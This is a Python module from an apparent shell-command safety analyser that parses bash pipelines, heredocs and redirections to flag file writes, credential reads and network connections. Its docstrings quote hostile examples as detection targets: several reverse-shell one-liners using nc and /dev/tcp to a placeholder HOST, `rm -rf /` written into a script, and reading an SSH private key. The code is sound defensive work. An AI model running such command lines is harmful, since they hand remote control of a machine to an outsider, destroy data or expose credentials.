"""Redirections and pipelines: what a command reads besides its arguments, and the files it writes through `>`.

A pipeline stage reads what the stage before it writes (known text, a download, or an unknown pipe); a heredoc,
here-string or `< file` gives a command known stdin; `>` and `>>` write files. Functions of the `Walker`, whose
state (cwd, variables, effects) they read and add to.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from tree_sitter import Node

from agentguard.analysis import grammar
from agentguard.analysis.grammar import node_text as _text
from agentguard.analysis.paths import DEV_SINKS
from agentguard.analysis.stdout import stdout_of
from agentguard.analysis.types import Stdin, Word
from agentguard.models import Effect, Kind

if TYPE_CHECKING:
    from agentguard.analysis.shell import Walker


def pipeline(walker: Walker, stages: list[Node], stdin: Stdin) -> None:
    current = stdin
    saved_cwd = walker.cwd
    _piped_shell(walker, stages)
    for stage in stages:
        # Each stage of a pipeline runs in its own subshell: a `cd` there does not leak.
        walker.cwd = saved_cwd
        walker.visit(stage, current)
        current = _stdout(walker, stage, current)
    walker.cwd = saved_cwd


def _piped_shell(walker: Walker, stages: list[Node]) -> None:
    """`nc HOST 4444 | sh | nc HOST 4445`, `cat fifo | sh -i 2>&1 | nc HOST 4444 > fifo`: a shell whose input or
    output is a network connection in the same pipeline is driven from the other end."""
    names = [n for s in stages for n in _stage_names(walker, s)]
    from agentguard.analysis.dispatch import SHELLS
    from agentguard.analysis.watch import CONNECTORS

    if any(n in SHELLS for n in names) and any(n in CONNECTORS for n in names):
        source = " | ".join(_text(s) for s in stages)
        walker.effects.append(Effect.make(Kind.NETWORK_SHELL, "a network peer", "pipes a shell through a "
                                          "network connection", source=source))  # fmt: skip


def _stage_names(walker: Walker, stage: Node) -> list[str]:
    """The command names of a pipeline stage (tree-sitter nests `a | b 2>&1 | c` as a pipeline in a stage)."""
    node = stage.child_by_field_name("body") if stage.type == "redirected_statement" else stage
    if node is not None and node.type == "pipeline":
        return [n for s in node.named_children for n in _stage_names(walker, s)]
    if node is None or node.type != "command":
        return []
    words = _command_words(node)
    first = walker.expander().expand(words[0]) if words else None
    return [first.text.rsplit("/", 1)[-1]] if first is not None and first.known else []


def redirected_statement(walker: Walker, node: Node, stdin: Stdin) -> None:
    body = node.child_by_field_name("body")
    redirects = [c for c in node.children if c.type.endswith("_redirect")]
    stray = _stray_arguments(redirects)
    piped = [c for r in redirects for c in r.named_children if c.type == "pipeline"]
    if body is not None and body.type == "list" and not piped:
        # tree-sitter hangs `a && b < f` on the whole list; bash gives the redirect to b alone, after a ran.
        *first, last = body.named_children
        for child in first:
            walker.visit(child, stdin)
        last_stdin = stdin_from(walker, redirects) or stdin  # before: a heredoc's $(…) runs commands of its own
        if last.type == "command":
            _staged_scripts(walker, last, redirects, last_stdin, _text(node))
        walker.stray_arguments = stray if last.type == "command" else []
        walker.visit(last, last_stdin)
        for redirect in redirects:
            redirect_effects(walker, redirect, _text(node))
        return
    wire = _reverse_shell(walker, node, redirects)
    if wire is not None:
        walker.effects.append(_connection(wire, _text(node), shell=True))
        return
    own_stdin = stdin_from(walker, redirects) or stdin
    walker.stray_arguments = stray if body is not None and body.type == "command" else []
    if body is not None and body.type == "command":
        _staged_scripts(walker, body, redirects, own_stdin, _text(node))
    if body is not None:
        if piped:  # `cat <<EOF | bash`: tree-sitter hangs the pipeline under the heredoc
            stages = [body] + [c for p in piped for c in p.named_children]
            pipeline(walker, stages, own_stdin)
        else:
            walker.visit(body, own_stdin)
    for redirect in redirects:
        redirect_effects(walker, redirect, _text(node))


def _staged_scripts(walker: Walker, body: Node, redirects: list[Node], stdin: Stdin, source: str) -> None:
    """`echo 'rm -rf /' > x.sh`: a script written with known text is judged by what it would do (staging.py)."""
    targets = [r.child_by_field_name("destination") for r in redirects if r.type == "file_redirect"
               and _operator(r) in (">", ">|", ">>", "&>", "&>>")]  # fmt: skip
    words = [walker.expander().expand(c) for c in _command_words(body)]
    inner = [c for c in body.children if c.type == "herestring_redirect"]  # `cat <<< 'TEXT' > x.sh`
    stdin = stdin_from(walker, inner) or stdin if inner else stdin
    for target in targets:
        if target is not None and _text(target).strip("'\"").endswith(SCRIPT_HINTS):
            from agentguard.analysis import staging

            destination = walker.expander().expand(target)
            walker.effects.extend(staging.check(walker, words, stdin, destination, source))


SCRIPT_HINTS = (".sh", ".bash", ".zsh", ".ksh", ".command", "rc", ".profile")


def _stray_arguments(redirects: list[Node]) -> list[Node]:
    """tree-sitter-bash gives `cmd >out a b` one redirect with destinations out, a, b; bash redirects to `out`
    and passes a and b to cmd. The words after the first destination are the command's."""
    return [d for r in redirects if r.type == "file_redirect" for d in r.children_by_field_name("destination")[1:]]


def stdin_from(walker: Walker, redirects: list[Node]) -> Stdin | None:
    for redirect in redirects:
        if redirect.type == "heredoc_redirect":
            return _heredoc(walker, redirect)
        if redirect.type == "herestring_redirect":
            word = walker.expander().expand(redirect.named_children[-1])
            return Stdin("literal", word.text + "\n") if word.known else Stdin("pipe")
        if redirect.type == "file_redirect" and _operator(redirect) == "<":
            dest = redirect.child_by_field_name("destination")
            word = walker.expander().expand(dest) if dest is not None else Word("", False, "?")
            if word.known and word.text.startswith(NET_DEVICES):  # `sh < /dev/tcp/HOST/PORT`: code off the wire
                return Stdin("network", None, word.text)
            _secret_input(walker, word, _text(redirect))
            text = walker.read_text(word.text, walker.cwd) if word.known else None
            return Stdin("file", text, word.text)
        if redirect.type == "file_redirect" and _operator(redirect) == "<&" and not _is_input_fd(redirect):
            return _duplicated_stdin(walker, redirect)
    return None


def _duplicated_stdin(walker: Walker, redirect: Node) -> Stdin:
    """`bash <&3`, `sh <&$fd`: stdin is another descriptor. A connection opened on it earlier in the line
    (`exec 3<>/dev/tcp/…`) is the network; any other is content not known here."""
    dest = redirect.child_by_field_name("destination")
    word = walker.expander().expand(dest) if dest is not None else Word("", False, "?")
    if word.known and word.text == "-":  # `<&-` closes stdin: nothing to read
        return Stdin("literal", "")
    if word.known and word.text in walker.network_fds:
        return Stdin("network", None, walker.network_fds[word.text])
    return Stdin("pipe")


def _is_input_fd(redirect: Node) -> bool:
    """`3<&0`: the redirection names a descriptor other than stdin, so stdin itself is unchanged."""
    descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
    return descriptor is not None and _text(descriptor) != "0"


def _secret_input(walker: Walker, word: Word, source: str) -> None:
    """`python3 -m json.tool < ~/.ssh/id_rsa`: whatever reads it, the command reads a credential store."""
    from agentguard.analysis.secrets import read_effects
    from agentguard.analysis.types import Invocation

    walker.effects.extend(read_effects([word], Invocation((), walker.cwd, source), "reads a credential store"))


def _heredoc(walker: Walker, redirect: Node) -> Stdin:
    """A heredoc's text, cut from the source between its first line and its delimiter: tree-sitter-bash
    turns a first line that starts with a backslash into stray words and leaves it out of heredoc_body.
    Unquoted, the outer shell expands it first, running every $(…) in it: those are walked here."""
    start = next((c for c in redirect.children if c.type == "heredoc_start"), None)
    end = next((c for c in redirect.children if c.type == "heredoc_end"), None)
    source, base = redirect.text or b"", redirect.start_byte
    first_break = source.find(b"\n", start.end_byte - base if start is not None else 0)
    stop = end.start_byte - base if end is not None else len(source)
    text = source[first_break + 1 : stop] if 0 <= first_break < stop else b""
    if any(c.type == "<<-" for c in redirect.children):  # `<<-` strips leading tabs from every line
        text = b"\n".join(line.lstrip(b"\t") for line in text.split(b"\n"))
    delimiter = _text(start) if start is not None else ""
    if not any(q in delimiter for q in "'\"\\"):
        for node in _descendants(redirect, ("command_substitution", "process_substitution")):
            walker.visit(node)
    return Stdin("literal", grammar.unshield(text.decode("utf-8", "replace")))


NET_DEVICES = ("/dev/tcp/", "/dev/udp/")


def _connection(path: str, source: str, *, shell: bool = False) -> Effect:
    host = path.split("/")[3] if path.count("/") >= 3 else "?"
    if shell:
        return Effect.make(Kind.NETWORK_SHELL, host, "connects a shell to a network peer", source=source,
                           context={"host": host})  # fmt: skip
    return Effect.make(Kind.NETWORK_SEND, host, f"opens a connection to {path}", source=source,
                       context={"host": host})  # fmt: skip


def _reverse_shell(walker: Walker, node: Node, redirects: list[Node]) -> str | None:
    """`bash -i >& /dev/tcp/HOST/PORT 0>&1`: a shell whose input or output is a network connection (its path)."""
    body = node.child_by_field_name("body")
    if body is None or body.type != "command":
        return None
    words = [walker.expander().expand(c) for c in _command_words(body)]
    name = words[0].text.rsplit("/", 1)[-1] if words and words[0].known else ""
    from agentguard.analysis.dispatch import SHELLS

    if name not in SHELLS and name not in ("python", "python3", "perl", "ruby", "php", "nc", "telnet"):
        return None
    targets = [_text(c).strip("'\"") for r in redirects for c in r.named_children if c.type != "file_descriptor"]
    wired = [walker.network_fds[t.lstrip("&")] for t in targets if t.lstrip("&") in walker.network_fds]
    return next((t for t in targets if t.startswith(NET_DEVICES)), wired[0] if wired else None)


def redirect_effects(walker: Walker, redirect: Node, source: str) -> None:
    if redirect.type != "file_redirect":
        return
    op = _operator(redirect)
    if op not in (">", ">|", "&>", ">>", "&>>", "<>"):
        return
    dest = redirect.child_by_field_name("destination")
    if dest is None:
        return
    word = walker.expander().expand(dest)
    if word.known and (word.text in DEV_SINKS or word.text.startswith("/dev/fd/")):
        return
    if word.known and word.text.startswith(NET_DEVICES):  # bash opens a connection: `> /dev/tcp/HOST/PORT`
        walker.effects.append(_connection(word.text, source))
        descriptor = next((c for c in redirect.children if c.type == "file_descriptor"), None)
        if descriptor is not None:  # `exec 5<>/dev/tcp/…`: later `<&5` / `>&5` use the connection
            walker.network_fds[_text(descriptor)] = word.text
        return
    found = walker.targets(word, walker.cwd)  # through links made earlier on the line
    if found is None:
        walker.effects.append(Effect.unknown(f"writes to a path not known before it runs ({word.why})", source))
        return
    for t in found:
        append = op in (">>", "&>>")
        kind = Kind.FILE_OVERWRITE if t.exists and not append else Kind.FILE_WRITE
        detail = "appends to" if append else ("truncates and overwrites" if t.exists else "creates")
        walker.effects.append(
            Effect.make(kind, t.display, detail, source=source, path=t.path, real_path=t.real,
                        is_dir=t.is_dir, exists=t.exists, size=t.size, pattern=t.pattern)
        )  # fmt: skip


def _stdout(walker: Walker, stage: Node, stdin: Stdin) -> Stdin:
    """What a pipeline stage writes, as far as can be known without running it."""
    node = stage
    if node.type == "redirected_statement":
        body = node.child_by_field_name("body")
        redirects = [c for c in node.children if c.type.endswith("_redirect")]
        stdin = stdin_from(walker, redirects) or stdin
        if body is None:
            return Stdin("pipe")
        node = body
    if node.type != "command":
        return Stdin("pipe")
    words = [walker.expander().expand(c) for c in _command_words(node)]
    return stdout_of(words, stdin, walker, walker.cwd)


def _command_words(node: Node) -> list[Node]:
    out: list[Node] = []
    for child in node.named_children:
        if child.type == "command_name":
            out.extend(child.named_children)
        elif child.type != "variable_assignment" and not child.type.endswith("_redirect"):
            out.append(child)
    return out


def _operator(redirect: Node) -> str:
    for child in redirect.children:
        if not child.is_named:
            return child.type
    return ""


def _descendants(node: Node, types: tuple[str, ...]) -> list[Node]:
    """The outermost descendants of these types (a $(…) inside one is walked with it)."""
    found: list[Node] = []
    for child in node.named_children:
        if child.type in types:
            found.append(child)
        else:
            found.extend(_descendants(child, types))
    return found
